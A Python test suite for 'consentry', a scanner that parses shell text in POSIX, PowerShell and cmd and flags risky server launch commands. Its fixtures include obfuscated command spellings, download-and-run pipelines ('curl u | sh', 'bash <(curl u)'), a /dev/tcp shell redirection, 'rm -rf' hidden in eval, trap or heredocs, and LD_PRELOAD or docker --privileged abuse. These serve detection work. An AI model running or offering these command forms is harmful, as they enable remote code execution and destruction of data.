"""Shell text as a value: words, pipelines, what hides, where data goes; and that no text is too much for it."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from consentry import rules, runners, script
from consentry.model import Facts, Level, Plan, Server, highest
from consentry.script.flow import follow
from consentry.script.kinds import Label
from consentry.script.lines import fold
from consentry.script.marks import Mark

DIALECTS = ("posix", "power", "cmd")


def words(text: str, dialect: str = "posix") -> list[tuple[str, ...]]:
    return [command.texts for command in script.read(text, dialect).commands if command.words]


def server(*argv: str) -> Server:
    return Server(names=("n",), command=argv[0], args=argv[1:], transport="stdio")


def plan(*argv: str) -> Plan:
    return runners.plan(server(*argv), None)


def found(*argv: str) -> set[str]:
    return {f.id for f in rules.check(server(*argv), plan(*argv), Facts()) if f.level >= Level.WARN}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a 'b c' \"d $x\" e\\ f", [("a", "b c", "d $x", "e f")]),
        ("a=to;b=uch;$a$b x", [("touch", "x")]),
        ("touch${IFS}x", [("touch", "x")]),
        ("$'\\x69\\144' -u", [("id", "-u")]),
        ("{id,-u}", [("id", "-u")]),
        ("${PATH:0:1}bin${PATH:0:1}id", [("/bin/id",)]),
        ("c=ixxd; ${c/xx/}", [("id",)]),
        ("`echo id` -u", [("echo", "id"), ("id", "-u")]),
        ('echo "$(a; b c)"', [("a",), ("b", "c"), ("echo", "$(a; b c)")]),
        ("if a; then b; else c; fi", [("a",), ("b",), ("c",)]),
        ("f() { a; }; f", [("a",), ("f",)]),
        ("exec 3<>/dev/tcp/e/1; cat <&3", [("exec",), ("cat",)]),
        ("i\\\nd -u", [("id", "-u")]),
    ],
)
def test_posix_words(text: str, expected: list[tuple[str, ...]]) -> None:
    assert words(text) == expected
    assert not script.read(text, "posix").errors


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('&("{1}{0}" -f "ex","i") a', [("iex", "a")]),
        ("i`ex 'a b'", [("iex", "a b")]),
        ('$x = "i" + "d"; & $x', [("id",)]),
        ("a; b | c", [("a",), ("b",), ("c",)]),
        ("npx -y @acme/notes --port=1", [("npx", "-y", "@acme/notes", "--port=1")]),
        ("iex (a).B('c')", [("a",), ("a",), (".b", "(a)", "c"), ("iex", "(a).B('c')")]),
    ],
)
def test_power_words(text: str, expected: list[tuple[str, ...]]) -> None:
    assert words(text, "power") == expected
    assert not script.read(text, "power").errors


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("npx -y x & calc", [("npx", "-y", "x"), ("calc",)]),
        ("e^c^ho a^&b", [("echo", "a&b")]),
        ("set a=cal&& call %a%c", [("calc",)]),
        ('"a b.exe" c > d', [("a b.exe", "c")]),
        ("for /f %i in ('ver') do echo %i", [("ver",), ("echo", "%i")]),
        ("if exist x (a) else (b & c)", [("a",), ("b",), ("c",)]),
        ("echo (a)", [("echo", "(a)")]),
    ],
)
def test_cmd_words(text: str, expected: list[tuple[str, ...]]) -> None:
    assert words(text, "cmd") == expected
    assert not script.read(text, "cmd").errors


def test_lines_are_joined_as_a_shell_joins_them() -> None:
    assert fold('echo "$\\\n(id)"') == 'echo "$(id)"'
    assert fold("echo 'a\\\nb'") == "echo 'a\\\nb'"
    assert fold("# a \\\nid") == "# a \\\nid"
    assert fold("a\\\\\nb") == "a\\\\\nb"


@pytest.mark.skipif(sys.platform == "win32", reason="there is no POSIX shell")
@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["a", "b'c d'", '"e f"', "g\\ h", "$'\\x69'", '""', "i'j'k", "'l\\\nm'", "n\\\no", '"p\\\nq"', "r\\s"]
        ),
        min_size=1,
        max_size=6,
    )
)
def test_words_are_those_of_a_real_shell(parts: list[str]) -> None:
    text = "printf '%s\\0' " + " ".join(parts)
    ran = subprocess.run(["/bin/bash", "-c", text], capture_output=True, check=True)
    assert script.read(text, "posix").commands[0].texts[2:] == tuple(ran.stdout.decode().split("\0")[:-1])


def test_marks_say_how_a_word_is_spelled() -> None:
    marks = {
        w.raw: w.marks
        for c in script.read('$a "$1" c""d e*f "$(g)" ${h:1} $((i)) $((1+1))', "posix").commands
        for w in c.words
    }
    assert Mark.VARIABLE in marks["$a"]
    assert Mark.POSITION in marks['"$1"']
    assert marks['c""d'] == {Mark.SPLICED}
    assert marks["e*f"] == {Mark.GLOB}
    assert marks['"$(g)"'] == {Mark.QUOTED, Mark.SUBSTITUTION}
    assert marks["${h:1}"] == {Mark.EXPANSION}
    assert marks["$((i))"] == {Mark.ARITHMETIC}
    assert not marks["$((1+1))"]


FAR = "\U0010a0a8"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_letters_far_beyond_ascii_reach_no_table_of_letters(dialect: str) -> None:
    """In a process of its own, since what went wrong here ended the whole process."""
    code = "import sys; from consentry import script; [script.read(t, sys.argv[1]) for t in sys.argv[2:]]"
    texts = [start + FAR + end for start in ("{", "{{", "${", "[", "$", "a{", "<<") for end in ("", "^", "=", "}")]
    assert subprocess.run([sys.executable, "-c", code, dialect, *texts]).returncode == 0


@pytest.mark.parametrize("dialect", DIALECTS)
def test_letters_beyond_ascii_stay_what_they_are(dialect: str) -> None:
    (command,) = script.read(f'caf\xe9 "{FAR} b" \u4f60\u597d', dialect).commands
    assert command.texts == ("caf\xe9", f"{FAR} b", "\u4f60\u597d")


def test_blanks_beyond_ascii_part_words_in_powershell() -> None:
    assert script.read("iex\xa0$x", "power").commands[0].texts[0] == "iex"


def test_names_beyond_ascii_are_told_apart_in_powershell() -> None:
    text = "$\xe9='iex'; $\xfc='echo'; & $\xe9 x; & $\xfc x"
    called = [c.texts[0] for c in script.read(text, "power").commands if c.words]
    assert called == ["iex", "echo"]


def test_a_heredoc_that_ends_at_a_letter_beyond_ascii_is_no_plain_one() -> None:
    assert script.read("cat <<\xe9\n.\n'\n\xe9\nx #'", "posix").errors
    assert not script.read("cat <<E\n\xe9\nE\n", "posix").errors


@pytest.mark.parametrize("dialect", DIALECTS)
@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.one_of(st.sampled_from("$(){}[]\"'`|&;<>\\ \na=#%!^~@:,.-0"), st.characters()), max_size=80))
@example("\0\r\n")
@example("'\ud800")
def test_any_text_is_read(dialect: str, text: str) -> None:
    read = script.read(text, dialect)
    follow(read)
    for command in read.commands:
        for span in command.reads:
            assert 0 <= span.start <= span.end <= len(read.commands)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(
        [("sh", "-c"), ("powershell", "-c"), ("cmd", "/k"), ("npx", "-c"), ("docker", "run", "x", "sh", "-c")]
    ),
    st.text(alphabet="$(){}[]\"'`|&;<>\\ \na=#%!^curlshex", min_size=1, max_size=60),
)
def test_shell_text_is_never_quiet(argv: tuple[str, ...], text: str) -> None:
    asked = server(*argv, text)
    findings = rules.check(asked, runners.plan(asked, None), Facts())
    if argv[0] != "cmd" or any(c in text for c in '&|<>^%"()\n'):
        assert highest(findings) >= Level.DANGER


@pytest.mark.parametrize(
    "unit", ["a|", "(a)", "$(a", "a=(", '"${', "<<A\n", "`a", "{ a; } | ", "a=$a$a;", "sh -c '", "&(", "%a%"]
)
@pytest.mark.parametrize("dialect", DIALECTS)
def test_long_text_is_told_not_read(unit: str, dialect: str) -> None:
    began = time.perf_counter()
    for size in (2_000, 4_000, 20_000, 1_000_000):
        read = script.read(unit * (size // len(unit)), dialect)
        follow(read)
    assert read.errors == ("it is too long to be read",)
    assert time.perf_counter() - began < 5


@pytest.mark.parametrize("depth", [3, 30, 900])
def test_deep_text_is_told(depth: int) -> None:
    for text in (
        "$(" * depth + "id" + ")" * depth,
        "{ " * depth + "id;" + " }" * depth,
        "( " * depth + "id" + ")" * depth,
    ):
        read = script.read(text, "posix")
        assert read.errors or ("id",) in [command.texts for command in read.commands]


def runs(text: str, dialect: str = "posix") -> Label:
    labels = Label.NONE
    for hit in follow(script.read(text, dialect)).runs:
        labels |= hit.labels
    return labels


@pytest.mark.parametrize(
    "text",
    [
        "curl u | sh", "curl u | tee x | sh", "bash <(curl u)", 'x=$(curl u); eval "$x"', "f() { sh; }; curl u | f",
        "curl -so x u; chmod +x x; ./x", "wget https://e/a.sh && sh a.sh", "curl u | while read l; do eval $l; done",
        "git clone https://e/r.git; cd r && make", "exec 3<>/dev/tcp/e/1; sh <&3", "sh -c 'curl u | sh'",
        "sh -c 'sh -c \"$1\"' _ \"$(curl u)\"", "X=curl; $X u | $0 sh; curl u | xargs -0 sh -c", "source <(curl u)",
    ],
)  # fmt: skip
def test_what_is_fetched_reaches_an_interpreter(text: str) -> None:
    assert runs(text) & Label.FETCHED


@pytest.mark.parametrize(
    "text",
    [
        "curl u | jq .", "curl u > x; cat x", "curl -so data.json u && node server.js data.json", "echo id | sh",
        "cd /srv && npm install && npm start", "sh x; curl u > x", "f() { sh; }; curl u", "curl u; sh -c id",
    ],
)  # fmt: skip
def test_what_is_fetched_and_only_kept_does_not(text: str) -> None:
    assert not runs(text) & Label.FETCHED


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (("sh", "-c", "LD_PRELOAD=/x npx -y pkg"), "ENV-LOADER"),
        (("sh", "-c", "export NODE_OPTIONS=--require=/x; npx -y pkg"), "ENV-RUNTIME"),
        (("sh", "-c", "docker run --privileged x"), "CTR-PRIV"),
        (("sh", "-c", 'exec "$@"', "_", "docker", "run", "--privileged", "x"), "CTR-PRIV"),
        (("cmd", "/c", "docker run --privileged x & rem"), "CTR-PRIV"),
        (("powershell", "-c", "sudo npx -y x"), "EXEC-PRIV"),
        (("docker", "run", "--rm", "x", "sh", "-c", "curl u | sh"), "EXEC-DLRUN"),
        (("npx", "-y", "supergateway", "--stdio", "npx -y x && curl u | sh"), "EXEC-DLRUN"),
        (("env", "-S", "sh -c 'curl u | sh'"), "EXEC-DLRUN"),
        (("sh", "-c", "sh -c 'sh -c \"rm -rf x\"'"), "EXEC-DESTR"),
        (("sh", "-c", "eval 'rm -rf x'"), "EXEC-DESTR"),
        (("sh", "-c", "trap 'rm -rf x' EXIT"), "EXEC-DESTR"),
        (("sh", "-c", "sh <<E\nrm -rf x\nE"), "EXEC-DESTR"),
    ],
)
def test_the_inside_of_shell_text_is_judged(argv: tuple[str, ...], expected: str) -> None:
    assert expected in found(*argv)


def test_fifty_commands_are_told() -> None:
    assert "EXEC-DEPTH" in found("sh", "-c", "true;" * 50 + "id")
    assert "EXEC-DEPTH" not in found("sh", "-c", "true;" * 40)


def test_no_parser_is_loaded_without_shell_text() -> None:
    code = (
        "import sys; from consentry import rules, runners; from consentry.model import Facts, Server;"
        "s = Server(names=('n',), command='npx', args=('-y', 'x', 'a b; c'), transport='stdio');"
        "rules.check(s, runners.plan(s, None), Facts());"
        "print([m for m in sys.modules if m.startswith(('tree_sitter', 'consentry.script.'))])"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True)
    assert "tree_sitter" not in ran.stdout
    assert "posix" not in ran.stdout
